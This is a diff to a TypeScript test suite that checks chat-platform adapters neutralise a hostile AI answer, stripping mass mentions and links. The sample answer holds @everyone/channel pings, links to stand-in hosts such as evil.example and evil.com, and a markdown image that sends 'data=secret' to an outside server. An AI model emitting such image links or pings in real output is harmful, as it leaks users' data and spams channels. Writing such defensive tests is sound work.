@@ -56,7 +56,7 @@ export interface ChatPlatformWorld {
 
 const HOSTILE_ANSWER = [
   'Hi <!channel> <!here> <@U0000000001> <@&123456> @everyone @here @channel <#C0000000001>, see [the report](http://evil.example/?q=1)',
-  'or <http://evil.example|this>, http://evil.example/bare, www.evil.example and ![chart](https://evil.example/pixel.png?data=secret). [Q1]',
+  'or <http://evil.example|this>, http://evil.example/bare, www.evil.example, evil.com/?q=1, bob@evil.com, evil.net:81 and ![chart](https://evil.example/pixel.png?data=secret). [Q1]',
 ].join('\n')
 
 /** What every platform must do; called from each one's test. The world is made and closed for each test. */
@@ -286,6 +286,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
           expect(message).toMatchObject({ pings: [], links: [], isRich: form === 'rich' })
           for (const word of ['channel', 'everyone', 'the report', 'evil.example', 'secret', 'chart', '[Q1]'])
             expect(message?.text).toContain(word)
+          expect(message?.text.replace(/[[\]]/g, '')).toContain('evil.com/?q=1, bob@evil.com, evil.net:81')
         })
       }
 
